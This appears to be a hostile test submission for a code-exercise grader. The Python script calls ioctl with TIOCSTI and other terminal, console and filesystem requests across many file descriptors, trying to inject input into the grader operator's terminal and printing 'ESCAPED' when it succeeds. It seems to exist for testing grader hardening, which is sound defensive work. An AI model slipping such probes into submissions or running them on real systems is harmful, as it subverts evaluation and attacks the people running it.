# /// attack
# tries = "Types commands into the terminal of whoever runs the grader."
# exercise = "ex02_zero_padding"
# answers = "right"
# points = "all"
# outcomes = ["passed"]
# ///
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_buffer = ctypes.create_string_buffer(b" " + bytes(255))
_CALLS = {
    **{"TIOCSTI": 0x5412, "TIOCSCTTY": 0x540E, "TIOCNOTTY": 0x5422, "TIOCLINUX": 0x541C},
    **{"TCSETS": 0x5402, "TIOCCONS": 0x541D, "TIOCGPTN": 0x80045430, "SIOCGIFCONF": 0x8912},
    **{"FIGETBSZ": 2, "FIFREEZE": 0xC0045877, "FS_IOC_SETFLAGS": 0x40086602, "FICLONE": 0x40049409},
}


def _attempt():
    for name, request in _CALLS.items():
        for number in range(64):
            for high in (0, 1 << 32):
                if _libc.ioctl(number, ctypes.c_ulong(high | request), _buffer) >= 0:
                    print("ESCAPED", name, number)


_attempt()
